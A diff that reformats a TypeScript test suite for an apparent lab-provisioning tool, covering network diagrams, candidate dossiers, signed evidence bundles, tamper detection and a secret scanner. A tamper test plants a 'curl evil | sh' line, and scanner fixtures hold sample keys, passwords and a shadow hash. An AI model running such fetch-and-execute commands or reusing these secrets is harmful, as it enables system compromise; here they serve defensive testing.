@@ -8,7 +8,16 @@ import { describe, expect, it } from 'vitest';
 import { REPO_ROOT } from '../src/core/repo.ts';
 import { planCandidate } from '../src/targets/local/plan.ts';
 import {
-  BundleError, bundleFiles, candidateCohort, MANIFEST, openBundle, packageDiff, secretFindings, sha256, versionCompatible, writeBundle,
+  BundleError,
+  bundleFiles,
+  candidateCohort,
+  MANIFEST,
+  openBundle,
+  packageDiff,
+  secretFindings,
+  sha256,
+  versionCompatible,
+  writeBundle,
   type BundleInput,
 } from '../src/evidence/bundle.ts';
 import { buildDiagram, candidateStates, renderDot, renderMermaid, renderWithDot } from '../src/evidence/diagram.ts';
@@ -22,15 +31,22 @@ const tmp = mkdtempSync(join(tmpdir(), 'asd-evidence-'));
 
 describe('architecture diagram', () => {
   const cohort = cohortOf();
-  const servers = serversOf(cohort, (c, s) => (s === 'db2' ? 'stopped' : 'running'));
+  const servers = serversOf(cohort, (_c, s) => (s === 'db2' ? 'stopped' : 'running'));
   const d = buildDiagram(cohort, candidateStates(cohort, servers, 'alice'), 'en');
-  const edge = (from: string, to: string) => d.edges.filter((e) => e.from === `alice_${from}` && e.to === `alice_${to}`).map((e) => e.label);
+  const edge = (from: string, to: string) =>
+    d.edges.filter((e) => e.from === `alice_${from}` && e.to === `alice_${to}`).map((e) => e.label);
 
-  it('draws every server of the live state with its role, address and state, in the candidate\'s network', () => {
+  it("draws every server of the live state with its role, address and state, in the candidate's network", () => {
     expect(d.clusters).toHaveLength(1);
-    expect(d.clusters[0]!.label).toBe(`alice (Alice Martin) — ${planCandidate(cohort, cohort.candidates[0]!).bridge} 10.98.0.0/24`);
+    expect(d.clusters[0]!.label).toBe(
+      `alice (Alice Martin) — ${planCandidate(cohort, cohort.candidates[0]!).bridge} 10.98.0.0/24`,
+    );
     expect(d.clusters[0]!.nodes.map((n) => `${n.name}/${n.role}/${n.address}/${n.state}`)).toEqual([
-      'gateway/gateway/10.98.0.10/running', 'app/app/10.98.0.11/running', 'db1/db/10.98.0.12/running', 'db2/db/10.98.0.13/stopped', 'mon/mon/10.98.0.14/running',
+      'gateway/gateway/10.98.0.10/running',
+      'app/app/10.98.0.11/running',
+      'db1/db/10.98.0.12/running',
+      'db2/db/10.98.0.13/stopped',
+      'mon/mon/10.98.0.14/running',
     ]);
   });
 
@@ -43,25 +59,44 @@ describe('architecture diagram', () => {
     expect(edge('mon', 'app')).toEqual(['metrics node 9100, metrics app 8080', 'HTTPS 443']);
     expect(edge('app', 'mon')).toEqual(['syslog TLS 6514']);
     expect(edge('mon', 'mon')).toEqual([]);
-    expect(d.edges.filter((e) => e.from === 'controller' && e.kind === 'ssh').map((e) => e.to)).toEqual(['gateway', 'app', 'db1', 'db2', 'mon'].map((s) => `alice_${s}`));
+    expect(d.edges.filter((e) => e.from === 'controller' && e.kind === 'ssh').map((e) => e.to)).toEqual(
+      ['gateway', 'app', 'db1', 'db2', 'mon'].map((s) => `alice_${s}`),
+    );
     // Users reach the application; the trainers and the candidate the consoles of mon.
-    expect(d.edges.filter((e) => e.from === 'controller' && e.kind !== 'ssh').map((e) => `${e.to}:${e.label}`))
-      .toEqual(['alice_app:HTTP 80, HTTPS 443', 'alice_mon:Prometheus 9090, Alertmanager 9093']);
+    expect(d.edges.filter((e) => e.from === 'controller' && e.kind !== 'ssh').map((e) => `${e.to}:${e.label}`)).toEqual([
+      'alice_app:HTTP 80, HTTPS 443',
+      'alice_mon:Prometheus 9090, Alertmanager 9093',
+    ]);
   });
 
   it('follows the modules and the servers that exist: a tiny lab has only its own flows', () => {
     const tiny = cohortOf('servers:\n  - {name: app, role: app}\n  - {name: db1, role: db}\nmodules: {monitoring: false}\n');
     const t = buildDiagram(tiny, candidateStates(tiny, serversOf(tiny), 'bob'), 'en');
-    expect(t.edges.map((e) => `${e.from}>${e.to}:${e.kind}`)).toEqual(['controller>bob_app:ssh', 'controller>bob_db1:ssh', 'controller>bob_app:web', 'bob_app>bob_db1:sql']);
+    expect(t.edges.map((e) => `${e.from}>${e.to}:${e.kind}`)).toEqual([
+      'controller>bob_app:ssh',
+      'controller>bob_db1:ssh',
+      'controller>bob_app:web',
+      'bob_app>bob_db1:sql',
+    ]);
     const noData = cohortOf('modules: {data: false}\n');
-    expect(buildDiagram(noData, candidateStates(noData, serversOf(noData)), 'en').edges.some((e) => e.kind === 'sql' || e.kind === 'replication')).toBe(false);
+    expect(
+      buildDiagram(noData, candidateStates(noData, serversOf(noData)), 'en').edges.some(
+        (e) => e.kind === 'sql' || e.kind === 'replication',
+      ),
+    ).toBe(false);
   });
 
   it('on AWS, SSH goes through the bastion', () => {
     const aws = cohortOf('target: aws\nexpires: 2026-12-31\nadmin: {cidrs: [203.0.113.0/24]}\n');
     const a = buildDiagram(aws, candidateStates(aws, serversOf(aws), 'alice'), 'en');
     const ssh = a.edges.filter((e) => e.kind === 'ssh').map((e) => `${e.from}>${e.to}`);
-    expect(ssh).toEqual(['admin>alice_gateway', 'alice_gateway>alice_app', 'alice_gateway>alice_db1', 'alice_gateway>alice_db2', 'alice_gateway>alice_mon']);
+    expect(ssh).toEqual([
+      'admin>alice_gateway',
+      'alice_gateway>alice_app',
+      'alice_gateway>alice_db1',
+      'alice_gateway>alice_db2',
+      'alice_gateway>alice_mon',
+    ]);
     expect(a.outside[0]!.address).toBe('203.0.113.0/24');
   });
 
@@ -84,7 +119,8 @@ describe('architecture diagram', () => {
     expect(which.exitCode, 'Graphviz is missing: apt-get install -y graphviz (listed in scripts/host-packages.txt)').toBe(0);
     const dot = renderDot(d, 'en');
     const svg = (await renderWithDot(dot, 'svg')).toString();
-    for (const a of ['10.98.0.10', '10.98.0.11', '10.98.0.12', '10.98.0.13', '10.98.0.14', 'PostgreSQL 5432', 'STOPPED']) expect(svg).toContain(a);
+    for (const a of ['10.98.0.10', '10.98.0.11', '10.98.0.12', '10.98.0.13', '10.98.0.14', 'PostgreSQL 5432', 'STOPPED'])
+      expect(svg).toContain(a);
     const png = await renderWithDot(dot, 'png');
     expect(png.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a');
     mkdirSync(join(REPO_ROOT, 'test-artifacts'), { recursive: true });
@@ -96,15 +132,28 @@ describe('dossier skeleton', () => {
   const cohort = cohortOf();
   const reportP = runVerify(cohort, serversOf(cohort), { checks: FAKE_CHECKS, probe: async () => true, version: VERSION });
   const input = async (withVerify = true) => ({
-    cohort, candidate: 'alice', servers: serversOf(cohort).get('alice')!, last: withVerify ? (await reportP).candidates[0] : undefined,
-    version: VERSION, tools: { terraform: '1.11.4' }, lang: 'en' as const, outDir: join(REPO_ROOT, 'dossier-alice'), diagramFile: 'diagram.svg',
+    cohort,
+    candidate: 'alice',
+    servers: serversOf(cohort).get('alice')!,
+    last: withVerify ? (await reportP).candidates[0] : undefined,
+    version: VERSION,
+    tools: { terraform: '1.11.4' },
+    lang: 'en' as const,
+    outDir: join(REPO_ROOT, 'dossier-alice'),
+    diagramFile: 'diagram.svg',
   });
 
   it('follows the required plan, in order', async () => {
-    const headings = dossierBlocks(await input()).filter((b) => b.kind === 'h' && b.level === 2).map((b) => (b as { text: string }).text);
+    const headings = dossierBlocks(await input())
+      .filter((b) => b.kind === 'h' && b.level === 2)
+      .map((b) => (b as { text: string }).text);
     expect(headings).toEqual([
-      '1. Competencies covered', '2. Specification (cahier des charges)', '3. Technical specification', '4. Approach and tools',
-      '5. The most significant scripts and configurations', '6. Research situation',
+      '1. Competencies covered',
+      '2. Specification (cahier des charges)',
+      '3. Technical specification',
+      '4. Approach and tools',
+      '5. The most significant scripts and configurations',
+      '6. Research situation',
     ]);
   });
 
@@ -117,7 +166,11 @@ describe('dossier skeleton', () => {
     };
     expect(section('2.').every((b) => b.kind === 'placeholder')).toBe(true);
     expect(section('6.').every((b) => b.kind === 'placeholder')).toBe(true);
-    for (const n of ['1.', '3.', '4.', '5.']) expect(section(n).some((b) => b.kind === 'placeholder'), n).toBe(true);
+    for (const n of ['1.', '3.', '4.', '5.'])
+      expect(
+        section(n).some((b) => b.kind === 'placeholder'),
+        n,
+      ).toBe(true);
     const md = toMarkdown(blocks);
     const html = toHtml('x', 'en', blocks);
     const count = (s: string) => s.split(`[${PLACEHOLDER_MARK}]`).length - 1;
@@ -134,9 +187,13 @@ describe('dossier skeleton', () => {
     expect(md).toContain('![Architecture diagram](diagram.svg)');
     expect(md).toMatch(/\| db2 \| db \| 10\.98\.0\.13 \| running \|/);
     const failedAll = structuredClone((await reportP).candidates[1]!);
-    failedAll.criteria.forEach((c) => { if (c.status === 'pass') c.status = 'fail'; });
+    failedAll.criteria.forEach((c) => {
+      if (c.status === 'pass') c.status = 'fail';
+    });
     expect(significantArtifacts(failedAll)).toEqual([]);
-    expect(toMarkdown(dossierBlocks({ ...(await input()), last: failedAll }))).toContain('No criterion has passed on the lab yet');
+    expect(toMarkdown(dossierBlocks({ ...(await input()), last: failedAll }))).toContain(
+      'No criterion has passed on the lab yet',
+    );
     const none = toMarkdown(dossierBlocks(await input(false)));
     expect(none).toContain('No verify result is recorded');
     expect(none).toMatch(/\| CP1 \| .* \| unknown \(no verify result\) \|/);
@@ -163,15 +220,26 @@ describe('bundles', () => {
   const cohort = cohortOf();
   const state = join(tmp, 'state');
   mkdirSync(join(state, 'keys/demo'), { recursive: true });
-  const privateKey = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
+  const privateKey =
+    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
   writeFileSync(join(state, 'keys/demo/id_ed25519'), privateKey, { mode: 0o600 });
-  writeFileSync(join(state, 'keys/demo/id_ed25519.pub'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ asd-lab@demo\n');
+  writeFileSync(
+    join(state, 'keys/demo/id_ed25519.pub'),
+    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ asd-lab@demo\n',
+  );
   const reportP = runVerify(cohort, serversOf(cohort), { checks: FAKE_CHECKS, probe: async () => true, version: VERSION });
   const input = async (over: Partial<BundleInput> = {}): Promise<BundleInput> => ({
-    cohort, candidate: 'carol', servers: serversOf(cohort).get('carol')!, stateDir: state, version: VERSION,
+    cohort,
+    candidate: 'carol',
+    servers: serversOf(cohort).get('carol')!,
+    stateDir: state,
+    version: VERSION,
     tools: { node: '20.20.2', terraform: '1.11.4', 'ansible-core': '2.14.18' },
     image: { id: '5067f4d532eb', packages: 'openssh-server 1:9.2p1-2+deb12u5\npostgresql-15 15.14-0+deb12u1\n' },
-    lastVerify: await reportP, diagram: { dot: 'digraph {}', mermaid: 'flowchart LR' }, now: NOW, ...over,
+    lastVerify: await reportP,
+    diagram: { dot: 'digraph {}', mermaid: 'flowchart LR' },
+    now: NOW,
+    ...over,
   });
   const make = async (name: string, over: Partial<BundleInput> = {}) => {
     const files = bundleFiles(await input(over));
@@ -191,11 +259,25 @@ describe('bundles', () => {
   it('holds the cohort entry with the subnet pinned, versions, image, public keys, the verify report and a manifest', async () => {
     const b = await make('carol.tar.gz');
     expect([...b.files.keys()].sort()).toEqual([
-      MANIFEST, 'bundle.json', 'cohort.yaml', 'diagram.dot', 'diagram.mmd', 'image/packages.txt', 'keys/candidate.pub', 'keys/lab-key.pub', 'verify-report.json',
+      MANIFEST,
+      'bundle.json',
+      'cohort.yaml',
+      'diagram.dot',
+      'diagram.mmd',
+      'image/packages.txt',
+      'keys/candidate.pub',
+      'keys/lab-key.pub',
+      'verify-report.json',
     ]);
     const opened = await openBundle(b.file, VERSION, { now: NOW });
     expect(opened.manifestSha256).toBe(b.manifestSha256);
-    expect(opened.meta).toMatchObject({ cohort: 'demo', candidate: 'carol', asdLab: VERSION, image: { id: '5067f4d532eb', packages: 2 }, tools: { terraform: '1.11.4' } });
+    expect(opened.meta).toMatchObject({
+      cohort: 'demo',
+      candidate: 'carol',
+      asdLab: VERSION,
+      image: { id: '5067f4d532eb', packages: 2 },
+      tools: { terraform: '1.11.4' },
+    });
     expect(opened.report!.candidates.map((c) => c.id)).toEqual(['carol']);
     // carol is the third candidate: alone in the bundle, she keeps her subnet and addresses.
     expect(opened.cohort.candidates.map((c) => c.id)).toEqual(['carol']);
@@ -228,35 +310,59 @@ describe('bundles', () => {
   });
 
   it('the scanner catches private keys, password files, vaults, tokens and hashes', () => {
-    const found = secretFindings(new Map<string, string>([
-      ['keys/id_ed25519', 'x'], ['a.txt', privateKey], ['pki/ca.key', 'x'], ['conf/db_password', 'x'], ['v.yml', '$ANSIBLE_VAULT;1.1;AES256\n31'],
-      ['env', 'PGPASSWORD=hunter2hunter2'], ['cfg.yml', 'replication_password: "s3cr3t-value"\n'], ['aws', 'AKIAIOSFODNN7EXAMPLE'],
-      ['shadow.txt', 'root:$6$abc$def:19000:0:99999:7:::'], ['ok.txt', 'PasswordAuthentication no\nssh-password-refused (app): refused'],
-    ]));
+    const found = secretFindings(
+      new Map<string, string>([
+        ['keys/id_ed25519', 'x'],
+        ['a.txt', privateKey],
+        ['pki/ca.key', 'x'],
+        ['conf/db_password', 'x'],
+        ['v.yml', '$ANSIBLE_VAULT;1.1;AES256\n31'],
+        ['env', 'PGPASSWORD=hunter2hunter2'],
+        ['cfg.yml', 'replication_password: "s3cr3t-value"\n'],
+        ['aws', 'AKIAIOSFODNN7EXAMPLE'],
+        ['shadow.txt', 'root:$6$abc$def:19000:0:99999:7:::'],
+        ['ok.txt', 'PasswordAuthentication no\nssh-password-refused (app): refused'],
+      ]),
+    );
     const files = new Set(found.map((f) => f.split(':')[0]));
-    expect([...files].sort()).toEqual(['a.txt', 'aws', 'cfg.yml', 'conf/db_password', 'env', 'keys/id_ed25519', 'pki/ca.key', 'shadow.txt', 'v.yml'].sort());
+    expect([...files].sort()).toEqual(
+      ['a.txt', 'aws', 'cfg.yml', 'conf/db_password', 'env', 'keys/id_ed25519', 'pki/ca.key', 'shadow.txt', 'v.yml'].sort(),
+    );
   });
 
   it('refuses to make a bundle that would hold a secret', async () => {
     const report = await reportP;
     const leaky = structuredClone(report);
     leaky.candidates[2]!.checks.push({ ...leaky.candidates[2]!.checks[0]!, evidence: privateKey });
-    await expect(make('leak.tar.gz', { lastVerify: leaky })).rejects.toThrow(/would contain secrets:\nverify-report\.json: content looks like a secret/);
+    await expect(make('leak.tar.gz', { lastVerify: leaky })).rejects.toThrow(
+      /would contain secrets:\nverify-report\.json: content looks like a secret/,
+    );
     expect(existsSync(join(tmp, 'leak.tar.gz'))).toBe(false);
   });
 
   it('refuses a tampered bundle: a changed file, an added file, a removed file, a wrong manifest hash', async () => {
     const b = await make('t.tar.gz');
     const changed = await extract(b.file);
-    writeFileSync(join(changed, 'cohort.yaml'), readFileSync(join(changed, 'cohort.yaml'), 'utf8').replace('memoryMiB: 512', 'memoryMiB: 4096'));
-    await expect(openBundle(await repack(changed, 't1.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(/modified after it was made:\nchecksum mismatch: cohort\.yaml was modified/);
+    writeFileSync(
+      join(changed, 'cohort.yaml'),
+      readFileSync(join(changed, 'cohort.yaml'), 'utf8').replace('memoryMiB: 512', 'memoryMiB: 4096'),
+    );
+    await expect(openBundle(await repack(changed, 't1.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
+      /modified after it was made:\nchecksum mismatch: cohort\.yaml was modified/,
+    );
     const added = await extract(b.file);
     writeFileSync(join(added, 'extra.sh'), 'curl evil | sh');
-    await expect(openBundle(await repack(added, 't2.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(/file extra\.sh is not in the manifest/);
+    await expect(openBundle(await repack(added, 't2.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
+      /file extra\.sh is not in the manifest/,
+    );
     const removed = await extract(b.file);
     (await import('node:fs')).rmSync(join(removed, 'verify-report.json'));
-    await expect(openBundle(await repack(removed, 't3.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(/missing file verify-report\.json/);
-    await expect(openBundle(b.file, VERSION, { now: NOW, expectSha256: '0'.repeat(64) })).rejects.toThrow(/this is not the bundle that was handed in/);
+    await expect(openBundle(await repack(removed, 't3.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
+      /missing file verify-report\.json/,
+    );
+    await expect(openBundle(b.file, VERSION, { now: NOW, expectSha256: '0'.repeat(64) })).rejects.toThrow(
+      /this is not the bundle that was handed in/,
+    );
     await expect(openBundle(b.file, VERSION, { now: NOW, expectSha256: b.manifestSha256 })).resolves.toBeTruthy();
   });
 
@@ -278,13 +384,23 @@ describe('bundles', () => {
     expect(versionCompatible('2.0.0', '1.0.0')).toBe(false);
     expect(versionCompatible('garbage', '1.0.0')).toBe(false);
     const future = await make('future.tar.gz', { version: { ...VERSION, version: '0.9.0' } });
-    await expect(openBundle(future.file, VERSION, { now: NOW })).rejects.toThrow(/made by asd-lab 0\.9\.0, incompatible with this asd-lab 0\.1\.0/);
-    const other = await openBundle((await make('other.tar.gz', { version: { ...VERSION, commit: 'f'.repeat(40) } })).file, VERSION, { now: NOW });
+    await expect(openBundle(future.file, VERSION, { now: NOW })).rejects.toThrow(
+      /made by asd-lab 0\.9\.0, incompatible with this asd-lab 0\.1\.0/,
+    );
+    const other = await openBundle(
+      (await make('other.tar.gz', { version: { ...VERSION, commit: 'f'.repeat(40) } })).file,
+      VERSION,
+      { now: NOW },
+    );
     expect(other.warnings).toEqual([expect.stringContaining('made at commit ffffffffffff')]);
   });
 
   it('compares the golden image package lists', () => {
-    expect(packageDiff('a 1\nb 2\nc 3\n', 'a 1\nb 2.1\nd 4\n')).toEqual({ changed: ['b 2 -> 2.1'], missing: ['c'], extra: ['d'] });
+    expect(packageDiff('a 1\nb 2\nc 3\n', 'a 1\nb 2.1\nd 4\n')).toEqual({
+      changed: ['b 2 -> 2.1'],
+      missing: ['c'],
+      extra: ['d'],
+    });
   });
 
   it('the candidate cohort refuses an unknown candidate', () => {
@@ -304,20 +420,26 @@ describe('bundles', () => {
     expect(r.stdout).toContain('dry run: nothing was built');
     expect(existsSync(join(tmp, 'state-cli/cohorts'))).toBe(false);
     const dir = await extract(b.file);
-    writeFileSync(join(dir, 'keys/candidate.pub'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ mallory\n');
+    writeFileSync(
+      join(dir, 'keys/candidate.pub'),
+      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ mallory\n',
+    );
     const bad = await repack(dir, 'cli-bad.tar.gz');
     const en = await cli(['reproduce', bad, '--dry-run'], env);
     expect(en.code).toBe(1);
     expect(en.stderr).toContain(`bundle ${bad} refused: the bundle was modified after it was made:`);
     expect(en.stderr).toContain('checksum mismatch: keys/candidate.pub was modified');
     const aws = cohortOf('target: aws\nexpires: 2099-12-31\nadmin: {cidrs: [203.0.113.0/24]}\n');
-    const awsBundle = await writeBundle(bundleFiles({ ...(await input()), cohort: aws, version: await toolVersion(), now: new Date() }), join(tmp, 'aws.tar.gz'));
+    const awsBundle = await writeBundle(
+      bundleFiles({ ...(await input()), cohort: aws, version: await toolVersion(), now: new Date() }),
+      join(tmp, 'aws.tar.gz'),
+    );
     const awsRun = await cli(['reproduce', awsBundle.file], env);
     expect(awsRun.code).toBe(1);
     expect(awsRun.stderr).toContain('the cohort targets aws');
     expect(existsSync(join(tmp, 'state-cli/cohorts'))).toBe(false);
     const fr = await cli(['--lang', 'fr', 'reproduce', bad, '--dry-run'], env);
     expect(fr.code).toBe(1);
-    expect(fr.stderr).toContain('refusée : l\'archive a été modifiée après sa création');
+    expect(fr.stderr).toContain("refusée : l'archive a été modifiée après sa création");
   });
 });
